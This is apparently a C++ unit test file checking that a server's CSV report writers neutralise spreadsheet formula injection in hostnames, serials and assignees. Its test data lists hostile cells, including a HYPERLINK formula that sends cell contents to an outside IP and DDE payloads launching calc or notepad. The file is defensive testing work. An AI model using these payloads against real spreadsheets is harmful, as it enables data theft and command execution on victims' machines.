// Formula injection (OWASP "CSV injection"): a hostname, serial or assignee
// chosen by whoever controls a laptop or an HR file must reach a spreadsheet
// as text, never as a formula. Both CSV writers go through csv_cell.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <unistd.h>

#include "server/ctl/output.h"
#include "server/reports/csv_cell.h"
#include "server/reports/fleet_report.h"

namespace telltale::server {
namespace {

// The hostile cells and what a spreadsheet must receive for each.
struct Case {
  std::string raw, written;
};
const std::vector<Case> kHostile = {
    {"=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://203.0.113.9/?\"\"&A1,\"\"open\"\")\""},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
    {"+cmd|' /C notepad'!A0", "'+cmd|' /C notepad'!A0"},
    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
    {"=1+1", "'=1+1"},
    {"\t=1+1", "'\t=1+1"},
    {"\r=1+1", "\"'\r=1+1\""},
    {"-1+1", "'-1+1"},
};
// Plain numbers are not formulas and stay numbers (negative scores, offsets).
const std::vector<Case> kNumbers = {{"+1", "+1"}, {"-1", "-1"}, {"-0.5", "-0.5"}, {"1e-3", "1e-3"}, {"42", "42"}};

TEST(CsvCell, FormulaLeadersAreNeutralised_PlainNumbersStayNumbers) {
  for (const auto& c : kHostile) EXPECT_EQ(csv_cell(c.raw), c.written) << c.raw;
  for (const auto& c : kNumbers) EXPECT_EQ(csv_cell(c.raw), c.written) << c.raw;
  EXPECT_EQ(csv_cell("laptop-042"), "laptop-042");
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("say \"hi\"\n"), "\"say \"\"hi\"\"\n\"");
  EXPECT_EQ(csv_cell("-"), "-");  // the "none" placeholder is no formula
  EXPECT_EQ(csv_cell("--"), "'--");
}

TEST(CsvCell, CtlCsvOutputWithHostileHostnames_IsNeutralised) {
  ctl::Table t{{"device", "hostname", "score"}, {}};
  for (const auto& c : kHostile) t.rows.push_back({"dev-1", c.raw, "-1"});
  std::ostringstream out;
  ctl::render(t, ctl::Format::kCsv, out);
  std::string expected = "device,hostname,score\n";
  for (const auto& c : kHostile) expected += "dev-1," + c.written + ",-1\n";
  EXPECT_EQ(out.str(), expected);
}

TEST(CsvCell, FleetReportCsvWithHostileHostnameSerialAndAssignee_IsNeutralised) {
  FleetReport report;
  report.generated_unix_ms = 1764633600000;
  for (size_t i = 0; i < kHostile.size(); ++i) {
    FleetReportRow row;
    row.device_id = "dev-" + std::to_string(i);
    row.hostname = kHostile[i].raw;
    row.serial = kHostile[(i + 1) % kHostile.size()].raw;
    row.assignee = kHostile[(i + 2) % kHostile.size()].raw;
    row.verdict = "review";
    row.score = -1.5;
    report.devices.push_back(row);
  }
  auto dir = std::filesystem::temp_directory_path() / ("csv-injection-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  auto base = write_fleet_report(report, dir);
  std::ifstream in(base.string() + ".csv", std::ios::binary);
  std::string written((std::istreambuf_iterator<char>(in)), {});
  std::filesystem::remove_all(dir);

  std::string expected = "device_id,hostname,serial,assignee,verdict,score,compliant,silent,last_seen,verdict_since\n";
  for (size_t i = 0; i < kHostile.size(); ++i)
    expected += "dev-" + std::to_string(i) + "," + kHostile[i].written + "," +
                kHostile[(i + 1) % kHostile.size()].written + "," + kHostile[(i + 2) % kHostile.size()].written +
                ",review,-1.5,yes,no,,\n";
  EXPECT_EQ(written, expected);
}

}  // namespace
}  // namespace telltale::server
